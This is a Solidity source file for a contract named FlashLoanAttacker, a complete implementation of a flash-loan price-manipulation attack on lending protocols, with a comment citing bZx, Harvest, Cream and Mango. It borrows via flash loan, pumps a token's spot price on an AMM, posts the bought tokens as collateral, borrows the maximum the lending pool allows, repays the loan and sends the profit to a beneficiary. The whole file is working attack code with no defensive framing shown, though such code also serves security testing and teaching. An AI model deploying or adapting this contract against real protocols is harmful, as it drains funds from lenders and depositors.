// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";

interface IFlashLenderLike {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data)
        external
        returns (bool);
}

interface ISpotPool {
    function swap(address tokenIn, uint256 amountIn, uint256 minAmountOut, address to)
        external
        returns (uint256);
}

interface ILendingPoolLike {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
    function availableToBorrow(address account) external view returns (uint256);
}

/// @title Flash loan + spot-price manipulation + over-borrow (bZx, Harvest, Cream, Mango…).
/// @notice Borrows the debt token, buys the collateral token on the AMM to pump its spot
/// price, posts what it bought as collateral, borrows everything the lending pool will lend
/// at the inflated price, repays the flash loan and keeps the rest.
contract FlashLoanAttacker {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    IFlashLenderLike public immutable lender;
    ISpotPool public immutable pool;
    ILendingPoolLike public immutable lending;
    IERC20 public immutable debtToken;
    IERC20 public immutable collateralToken;
    address public immutable beneficiary;
    address public immutable operator;

    error NotOperator();
    error NotLender();
    error Unprofitable(uint256 balance, uint256 owed);

    constructor(
        IFlashLenderLike lender_,
        ISpotPool pool_,
        ILendingPoolLike lending_,
        IERC20 debtToken_,
        IERC20 collateralToken_,
        address beneficiary_
    ) {
        lender = lender_;
        pool = pool_;
        lending = lending_;
        debtToken = debtToken_;
        collateralToken = collateralToken_;
        beneficiary = beneficiary_;
        operator = msg.sender;
    }

    function attack(uint256 loanAmount, uint256 pumpAmount) external {
        if (msg.sender != operator) revert NotOperator();
        lender.flashLoan(address(this), address(debtToken), loanAmount, abi.encode(pumpAmount));
        debtToken.transfer(beneficiary, debtToken.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender)) revert NotLender();
        uint256 pumpAmount = abi.decode(data, (uint256));
        debtToken.approve(address(pool), pumpAmount);
        uint256 bought = pool.swap(address(debtToken), pumpAmount, 0, address(this));
        collateralToken.approve(address(lending), bought);
        lending.depositCollateral(bought);
        lending.borrow(lending.availableToBorrow(address(this)));
        uint256 owed = amount + fee;
        uint256 balance = debtToken.balanceOf(address(this));
        if (balance < owed) revert Unprofitable(balance, owed);
        debtToken.approve(address(lender), owed);
        return CALLBACK_SUCCESS;
    }
}
